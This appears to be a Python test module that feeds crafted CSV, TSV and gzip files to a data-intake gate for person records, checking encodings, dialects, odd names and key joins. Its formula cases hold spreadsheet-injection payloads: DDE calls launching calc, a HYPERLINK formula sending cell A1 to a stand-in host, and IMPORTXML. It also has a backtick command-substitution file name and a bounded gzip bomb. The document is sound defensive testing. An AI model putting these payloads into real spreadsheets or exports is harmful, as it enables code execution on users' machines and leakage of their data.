"""Crafted text files at the gate: an answer within 10 s, no traceback, no value told, nothing lost, nothing live."""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import os
from collections.abc import Callable, Sequence
from typing import Any

import pytest

SECRET = "Zzsecretz"
COLUMNS = ["local_id", "forenames", "surname", "dob", "self_defined_ethnicity", "nationalities"]
HEAD = ",".join(COLUMNS) + "\n"
GOOD = ["1", "Ann", SECRET, "1990-01-01", "W1", "GBR"]
A, B, C = (f"{n},Ann,{SECRET},1990-01-01,W1,GBR\n" for n in (1, 2, 3))
"""Sound rows, but that sex and address are missing: each is accepted with a mark, and so stands in the returns file."""

Made = str | bytes | Callable[[], bytes]
Answer = tuple[int, int | None] | str
"""Rows sent and returned, counted by hand; or a part of the error."""

Case = dict[str, Any]

CASES: dict[str, Case] = {}


def add(name: str, made: Made, answer: Answer, **more: Any) -> None:
    assert name not in CASES
    CASES[name] = {"files": {name: made}, "answer": answer, **more}


def table(*rows: Sequence[str], head: Sequence[str] = tuple(COLUMNS), **dialect: Any) -> str:
    out = io.StringIO(newline="")
    csv.writer(out, **{"lineterminator": "\n"} | dialect).writerows([head, *rows])
    return out.getvalue()


def other(**changed: str) -> list[str]:
    return [changed.get(name, cell) for name, cell in zip(COLUMNS, GOOD, strict=True)]


LONG = "x" * 90_000
DIALECTS: dict[str, tuple[Made, Answer]] = {
    "semicolon": (table(GOOD, delimiter=";"), (1, 0)),
    "tab.tsv": (table(GOOD, delimiter="\t"), (1, 0)),
    "tab.txt": (table(GOOD, delimiter="\t"), (1, 0)),
    "pipe": (table(GOOD, delimiter="|"), (1, 0)),
    "tilde": (table(GOOD, delimiter="~"), "not those of any table"),
    "crlf": (table(GOOD, lineterminator="\r\n"), (1, 0)),
    "cr": ((HEAD + A + B).replace("\n", "\r"), (2, 0)),
    "mixed-ends": (HEAD[:-1] + "\r\n" + A[:-1] + "\r" + B + C[:-1] + "\r\n", (3, 0)),
    "lf-cr": ((HEAD + A + B).replace("\n", "\n\r"), (2, 0)),
    "cr-cr-lf": ((HEAD + A + B).replace("\n", "\r\r\n"), (2, 0)),
    "no-last-end": (HEAD + A + B[:-1], (2, 0)),
    "unicode-line-end": (HEAD + A[:-1] + "\u2028" + B, (1, 1)),
    "vertical-tab": (HEAD + A.replace("Ann", "An\vn\f"), (1, 0)),
    "empty-rows": (HEAD + "\n\n" + A + "\n,,,,,\n" + B + "\n\n", (2, 0)),
    "rows-of-spaces": (HEAD + A + " , , , , , \n", (2, 1)),
    "quoted-empty-row": (HEAD + A + '"","","","","",""\n', (1, 0)),
    "trailing-delimiters": ((HEAD + A + B).replace("\n", ",\n"), (2, 0)),
    "trailing-delimiters-in-rows": (HEAD + (A + B).replace("\n", ",\n"), (2, 2)),
    "trailing-delimiter-in-header": (HEAD[:-1] + ",\n" + A, (1, 1)),
    "rows-of-other-widths": (HEAD + A + "9\n" + f"9,{SECRET}\n" + B[:-1] + ",7,8\n", (4, 3)),
    "header-only": (HEAD, (0, 0)),
    "header-without-end": (HEAD[:-1], (0, 0)),
    "header-and-blank-lines": (HEAD + "\n\r\n,,,,,\n", (0, 0)),
    "no-header": (A + B + C, "not those of any table"),
    "numbers-only": ("1,2,3\n4,5,6\n", "not those of any table"),
    "blank-line-first": ("\n" + HEAD + A, "first row is empty"),
    "sep-line-first": ("sep=,\n" + HEAD + A, "not those of any table"),
    "title-first": (f"Extract of {SECRET}\n" + HEAD + A, "not those of any table"),
    "header-twice": (HEAD + A + HEAD + B, (3, 1)),
    "names-twice-but-for-space": ("surname, surname\nx,y\n", "Columns 1 and 2 have the same name"),
    "names-twice-but-for-case": (HEAD[:-1] + f",Surname\n{A[:-1]},x\n", (1, 0)),
    "names-in-capitals": (HEAD.upper() + A, (1, 0)),
    "names-with-spaces": (HEAD.replace(",", " , ") + A, (1, 0)),
    "names-with-hard-spaces": (HEAD.replace(",", "\u00a0,") + A, (1, 0)),
    "names-quoted": (table(GOOD, quoting=csv.QUOTE_ALL), (1, 0)),
    "name-over-two-lines": (table([*GOOD, "x"], head=[*COLUMNS, "a\nb"]), (1, 0)),
    "name-is-a-value": (table([*GOOD, "x"], head=[*COLUMNS, SECRET]), (1, 0)),
    "name-with-bidi": (table([*GOOD, "x"], head=[*COLUMNS, f"\u202e{SECRET}\u202c"]), (1, 0)),
    "name-with-nul": (HEAD[:-1] + f",a\0b\n{A[:-1]},x\n", (1, 0)),
    "name-never-closed": ('local_id,"surname\n' + A * 3, "cannot be read as a table"),
    "needed-name-with-bidi": (HEAD.replace("local_id", "local\u200b_id") + A, "no column `local_id`"),
    "needed-name-missing": (HEAD.replace("local_id", SECRET) + A, "no column `local_id`"),
    "one-column": (f"surname\n{SECRET}\n", "not those of any table"),
    "person_records": (f"local_id\n{SECRET}1\n{SECRET}2\n", (2, 2)),
    "only-commas": (",,,,\n,,,,\n", "first row is empty"),
    "only-a-quote": ('"', "first row is empty"),
    "wide-1000": (table(GOOD + [""] * 993 + ["x"], head=COLUMNS + [f"c{n}" for n in range(994)]), (1, 0)),
    "wide-5000": (table(head=COLUMNS + [f"c{n}" for n in range(4_994)]), "more than 4,000 columns"),
    "quoted-all": (table(GOOD, other(local_id="2"), quoting=csv.QUOTE_ALL), (2, 0)),
    "doubled-quotes": (HEAD + A.replace("Ann", '"An""n"""'), (1, 1)),
    "three-quotes": (HEAD + A.replace("Ann", '"""Ann"""'), (1, 1)),
    "single-quotes": (HEAD + A.replace(",", "','"), (1, 1)),
    "curly-quotes": (HEAD + A.replace("Ann", "\u201cAnn\u201d"), (1, 1)),
    "stray-quote-inside": (HEAD + A.replace("Ann", '5" pipe') + B, (2, 1)),
    "stray-quote-after": (HEAD + A.replace("Ann", '"Ann"x') + B, (2, 0)),
    "quote-after-space": (HEAD + A.replace("Ann", ' "Ann"') + B, (2, 1)),
    "backslash-quote": (HEAD + A.replace("Ann", r'"An\"n"') + B, (2, 1)),
    "unclosed-at-start": (HEAD + '"' + A + B + C, (3, 3)),
    "unclosed-in-the-middle": (HEAD + A + B.replace("Ann", '"Ann') + C, (3, 2)),
    "unclosed-in-last-row": (HEAD + A + B + C.replace("GBR", '"GBR'), (3, 1)),
    "unclosed-in-last-row-without-end": (HEAD + A + B.replace("GBR", '"GBR').rstrip(), (2, 0)),
    "unclosed-two": (HEAD + A.replace("Ann", '"Ann') + B + C.replace("Ann", '"Ann'), (1, 1)),
    "unclosed-before-5000": (HEAD + '1,"Ann' + f",{SECRET},1990-01-01,W1,GBR\n" + B * 5_000, (5_001, 5_001)),
    "line-break-in-name": (HEAD + A.replace("Ann", '"An\nn"') + B, (2, 1)),
    "line-break-in-address": (HEAD[:-1] + ",address\n" + A[:-1] + ',"1 High Street\nTarrowmere"\n', (1, 0)),
    "delimiter-in-name": (HEAD + A.replace("Ann", '"Ann, May"'), (1, 1)),
    "long-row": (HEAD[:-1] + ",address,restriction\n" + A[:-1] + f",{LONG},{LONG}\n" + B[:-1] + ",,\n", (2, 0)),
    "cell-one-too-long": (HEAD[:-1] + ",address\n" + A[:-1] + f",{'x' * 100_001}\n" + B[:-1] + ",\n", (2, 1)),
    "cell-of-10-megabytes": (HEAD + A.replace("Ann", "Ann" * 3_500_000) + B, (2, 1)),
    "same-row-12000-times": (HEAD + A * 12_000, (12_000, 11_999)),
    "keys-missing": (HEAD + A[1:] + B[1:], (2, 2)),
    "xlsx-in-name-only.csv": (b"PK\3\4\x14\0\x08\x08\xff\xfe" * 50, "not in utf-8"),
    "parquet-in-name-only.csv": (b"PAR1\x15\x04\x15\xff" * 50, "not in utf-8"),
    "all-nul": (b"\0" * 5_000, "UTF-16 without a mark"),
    "nul-in-key": (HEAD + A.replace("1,Ann", "\0001,Ann") + B, (2, 1)),
    "nul-at-the-end": (HEAD + A + "\0" * 50, (2, 1)),
    "picture": (b"\xff\xd8\xff\xe0" + bytes(range(256)) * 40, "not in utf-8"),
}
for name, (content, answer) in DIALECTS.items():
    add(name if "." in name else f"{name}.csv", content, answer)

ACCENTS = (HEAD + A.replace("Ann", "Zoë") + B).encode
ENCODED: dict[str, tuple[bytes, Answer]] = {
    "utf-8-mark": (ACCENTS("utf-8-sig"), (2, 0)),
    "utf-8-two-marks": (codecs.BOM_UTF8 + ACCENTS("utf-8-sig"), "no column `local_id`"),
    "utf-8-mark-in-the-middle": (ACCENTS("utf-8") + ACCENTS("utf-8-sig"), (5, 3)),
    "utf-16-little": (codecs.BOM_UTF16_LE + ACCENTS("utf-16-le"), (2, 0)),
    "utf-16-big": (codecs.BOM_UTF16_BE + ACCENTS("utf-16-be"), (2, 0)),
    "utf-16-without-mark": (HEAD.encode("utf-16-be"), "UTF-16 without a mark"),
    "utf-16-without-mark-accents": (ACCENTS("utf-16-be"), "not in utf-8"),
    "utf-16-odd-bytes": (ACCENTS("utf-16")[:-1], "not in utf-16"),
    "utf-16-half-character": (ACCENTS("utf-16") + b"\x00\xd8", "not in utf-16"),
    "utf-32-little": (codecs.BOM_UTF32_LE + ACCENTS("utf-32-le"), (2, 0)),
    "utf-32-big": (codecs.BOM_UTF32_BE + ACCENTS("utf-32-be"), (2, 0)),
    "utf-7": (ACCENTS("utf-7"), (2, 1)),
    "cp1252-unsaid": (ACCENTS("cp1252"), "row 2: The file is not in utf-8"),
    "mac-unsaid": (ACCENTS("mac_roman"), "row 2: The file is not in utf-8"),
    "shift-jis-unsaid": ((HEAD + A + B.replace("Ann", "花子")).encode("shift_jis"), "row 3: The file is not in utf-8"),
    "ebcdic": (ACCENTS("cp037"), "not in utf-8"),
    "bad-byte-in-row-3": ((HEAD + A).encode() + B.encode().replace(b"Ann", b"A\xffn"), "row 3"),
    "two-encodings": (ACCENTS("utf-8") + C.replace("Ann", "Zoë").encode("cp1252"), "row 4"),
    "cut-in-a-character": (HEAD.encode() + A.encode()[:-1] + b"\xc3", "row 2"),
    "overlong-nul": ((HEAD + A).encode().replace(b"Ann", b"A\xc0\x80n"), "row 2"),
    "escaped-surrogate": ((HEAD + A).encode().replace(b"Ann", b"A\xed\xa0\x80n"), "row 2"),
    "beyond-unicode": ((HEAD + A).encode().replace(b"Ann", b"\xf4\x90\x80\x80"), "row 2"),
    "no-characters": ((HEAD + A.replace("Ann", "A\ufffe\uffff\ufdd0n")).encode(), (1, 1)),
    "replaced-before": ((HEAD + A.replace("Ann", "Zo\ufffd")).encode(), (1, 1)),
    "read-twice": ((HEAD + A.replace("Ann", "Zo\u00c3\u00ab")).encode(), (1, 1)),
}
for name, (content, answer) in ENCODED.items():
    add(f"{name}.csv", content, answer, markers=content.replace(b"\0", b"").count(SECRET.encode()))

MAP = '[reading]\nencoding = "%s"\n[[table]]\nname = "person_records"\nfiles = "*"\n[table.columns]\n' + "\n".join(
    f'{name} = "{name}"' for name in COLUMNS
)
NAMED = {
    "latin-1": "Zoë", "cp1252": "Zoë\u2019s", "mac_roman": "Zoë", "cp850": "Zoë", "cp037": "Zoë", "shift_jis": "花子",
    "gb18030": "王小", "big5": "王小", "euc_kr": "김", "koi8_r": "Анна", "cp1256": "فاطمة", "utf-32": "Zoë",
    "iso2022_jp": "花子", "utf-16-le": "Zoë",
}  # fmt: skip
for encoding, forename in NAMED.items():
    rows = [other(forenames=forename.replace("\u2019s", "")), other(local_id="2")]
    add(f"said-{encoding}.csv", table(*rows).encode(encoding), (2, 0), source_map=MAP % encoding, cells=rows, markers=2)
add("said-ascii.csv", ACCENTS("utf-8"), "row 2: The file is not in ascii", source_map=MAP % "ascii")

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1", "\uff0b1+1", "\uff0d1+1", "\uff201",
    "\ufe621", "\u22121+1", "=cmd|' /C calc'!A0", f'=HYPERLINK("http://x.invalid/?"&A1,"{SECRET}")',
    '=DDE("cmd";"/C calc";"1")',
    '=IMPORTXML("http://x.invalid","//a")', "-2+3+cmd|' /C calc'!A0", " =1", "\u200b=1", "\u202e=1", "\u2066=1\u2069",
    "\ufeff=1", "\u00a0=1", "\u00ad@x", "\u2060+x", "'=1", "''=1", '"=1"', "=\n1", "=", "\x1b=1", "\u3000=1",
    "+44-7700-900123", "-5;=1", "=1\0", "%0A=1", "a\n=1",
]  # fmt: skip
for number in range(0, len(FORMULAS), 4):
    some = FORMULAS[number : number + 4]
    sound = [*GOOD, "x"]
    rows = [[*sound[:place], formula, *sound[place + 1 :]] for formula in some for place in range(7)]
    rows = [row if place % 7 == 0 else [str(place), *row[1:]] for place, row in enumerate(rows)]
    content = table(*rows, head=[*COLUMNS, some[0]], lineterminator="\r\n")
    add(f"formula-{number:02}.csv", content, (7 * len(some), None), cells=rows)

NAMES: dict[str, int] = {
    "A\u202enn": 0, "\u2067Ann\u2069": 0, "A\u200bn\u200dn\u200c": 0, "A\u00adnn\u2060": 0, "\ufeffAnn": 0,
    "Ann\ufe0f": 0, "A\U000e0061nn": 0, "Ann" + "\u0301" * 80: 0, "Zoe\u0308": 0, "فاطمة": 0, "अनीता": 0, "花子": 0,
    "สมหญิง": 0, "ᎠᏂ": 0, "𐐀𐑌": 0, "Ann 😀": 1, "👩\u200d👧": 1, "Ann٣": 1, "İpek": 0, "Groß": 0,
    "ﬁona": 0, "\u212aim": 0, "\ue000": 1, "\u0378": 1, "O\u2019Hara": 0, "x" * 32_800: 0, "\u0301": 0, "ᵃⁿⁿ": 0,
}  # fmt: skip
for verdict in (0, 1):
    some = [forename for forename, returned in NAMES.items() if returned == verdict]
    rows = [other(local_id=f"f{n}", forenames=forename) for n, forename in enumerate(some)]
    rows += [other(local_id=f"s{n}", surname=f"{forename} {SECRET}") for n, forename in enumerate(some)]
    add(f"names-{verdict}.csv", table(*rows), (2 * len(some), 2 * len(some) * verdict), cells=rows)

DATES: dict[str, int] = {
    "1990-12-31": 0, "31/12/1990": 0, "1/2/1990": 0, "1990-1-2": 0, "1990-12-31 00:00:00": 0, "31/12/1990 10:15": 0,
    "1990-12-31T23:59:59": 0, "1990-12-31 10:00:00.5": 0, "1990-12": 0, "12/1990": 0, "1990": 0, "29/02/2000": 0,
    "٣١/١٢/١٩٩٠": 1, "３１/１２/１９９０": 1, "31/12/1990\u200f": 0, "\u202a31/12/1990\u202c": 0, " 31/12/1990 ": 0,
    "NULL": 0, "12/31/1990": 1, "31/02/1990": 1, "29/02/1900": 1, "00/00/0000": 1, "0000-00-00": 1, "1990-13-01": 1,
    "31.12.1990": 1, "31-12-1990": 1, "31 Dec 1990": 1, "Dec 31, 1990": 1, "19901231": 1, "31/12/90": 1, "33238": 1,
    "1990-12-31Z": 1, "1990-12-31T10:00:00+01:00": 1, "1990-W52-1": 1, "1990-365": 1, "soon": 1, "01/01/1900": 1,
    "1970-01-01": 1, "2199-01-01": 1, "1801-01-01": 1, "10000-01-01": 1, "31／12／1990": 1, "1e9": 1, "-1": 1,
}  # fmt: skip
for verdict in (0, 1):
    rows = [other(local_id=f"d{n}", dob=date) for n, date in enumerate(DATES) if DATES[date] == verdict]
    add(f"dates-{verdict}.csv", table(*rows), (len(rows), len(rows) * verdict), cells=rows)

PACKED = gzip.compress((HEAD + A + B).encode())
add("plain.csv.gz", PACKED, (2, 0), markers=2)
add("members.csv.gz", PACKED + gzip.compress(C.encode()), (3, 0), markers=3)
add("cut-member.csv.gz", PACKED + gzip.compress(C.encode())[:-6], "stops too soon")
add("rubbish-after.csv.gz", PACKED + b"rubbish", "not compressed as its name says")
add("wrong-sum.csv.gz", PACKED[:-8] + b"abcdefgh", "not compressed as its name says")
add("damaged.csv.gz", PACKED[:30] + b"\xff\xff" + PACKED[32:], "damaged")
add("twice.csv.gz", gzip.compress(PACKED), "not in utf-8")
add("of-nothing.csv.gz", gzip.compress(b""), "file is empty")
add("utf-16.tsv.gz", gzip.compress(table(GOOD, delimiter="\t").encode("utf-16")), (1, 0), markers=1)
add("bomb-within-limits.csv.gz", lambda: gzip.compress((HEAD + A + "\n" * 15_000_000).encode()), (1, 0), markers=1)
add("plain.csv.GZ", PACKED, (2, 0), markers=2)

FILE_NAMES = [
    "two words.csv", "ünïcødé.csv", "名前.csv", "line\nbreak.csv", "-dash.csv", "--json.csv", "UPPER.CSV",
    "two..dots.csv", "=1+1.csv", "a'b\"c.csv", "back\\slash.csv", "semi;colon.csv", "hash#sheet.csv", "[1]*.csv",
    "a\u202evsc.csv",
    "😀.csv", "%s{0}$x`id`.csv", "a.csv.csv", "tab\t.csv", " .csv", "[bold]red.csv", "x" * 200 + ".csv",
]  # fmt: skip
for name in FILE_NAMES:
    add(name, HEAD + A + "=1+1" + B[1:], (2, 1))
NO_TEXT = os.fsdecode(b"\xff\xfe.csv")
add(NO_TEXT, HEAD + A, (1, 0))
add("x" * 251 + ".csv", HEAD + A, "file name is too long")
add("people.csv ", HEAD + A, "kind of file is not read")
add("people.xls", HEAD + A, "kind of file is not read")
add("people.csv.zip", HEAD + A, "kind of file is not read")
add("people.returns.csv", HEAD + A, "not an extract")
add("roles.csv", HEAD + A, "no column `crime_id`")

TABLES = (
    "crime_id,recorded_on\n{crime},2024-05-01\n",
    HEAD + "{person}," + A[2:],
    "crime_id,record_id,role\n{role_crime},{role_person},suspect\n",
)
KEYS: dict[str, tuple[tuple[str, str, str, str], int]] = {
    "sound": (("C1", "P1", "C1", "P1"), 0),
    "dangling": (("C1", "P1", "C2", "P2"), 2),
    "case-differs": (("c1", "p1", "C1", "P1"), 2),
    "space-around": ((" C1", "P1 ", "C1", "P1"), 0),
    "space-inside": (("C 1", "P1", "C1", "P1"), 1),
    "colon": (("C:1", "a:P:1", "C:1", "a:P:1"), 1),  # a role's key may bear its system, as the tables of a run do
    "slash-semicolon": (("C/1;2", "P;1/2", "C/1;2", "P;1/2"), 0),
    "zeros-before": (("01", "1", "1", "1"), 1),
    "invisible": (("C\u200b1", "P1", "C1", "P1"), 1),
    "composed": (("é", "P1", "e\u0301", "P1"), 1),
    "long": (("C" * 90_000, "P" * 90_000, "C" * 90_000, "P" * 90_000), 0),
    "formula": (("+1+1", "-1+1", "+1+1", "-1+1"), 0),
    "empty": (("", "", "", ""), 3),
    "quotes": (('"C""1"', '"P""1"', '"C""1"', '"P""1"'), 0),
}
for name, (keys, returned) in KEYS.items():
    made = dict(zip(("crime", "person", "role_crime", "role_person"), keys, strict=True))
    files = {f"{n}.csv": text.format(**made) for n, text in zip(("crimes", "people", "roles"), TABLES, strict=True)}
    CASES[f"keys-{name}"] = {"files": files, "answer": (3, returned)}

if os.environ.get("JOINEDUP_SCALE") != "full":  # two of three
    CASES = {name: case for place, (name, case) in enumerate(CASES.items()) if place % 3}
PROMPTED = list(CASES)[::10]


@pytest.mark.proof
@pytest.mark.parametrize("name", CASES)
def test_a_crafted_file_has_one_clear_answer_and_nothing_is_lost(name: str, checked: Callable[[str], None]) -> None:
    checked(name)


@pytest.mark.parametrize("name", PROMPTED)
def test_the_command_answers_so_in_words(name: str, prompted: Callable[[str], None]) -> None:
    prompted(name)
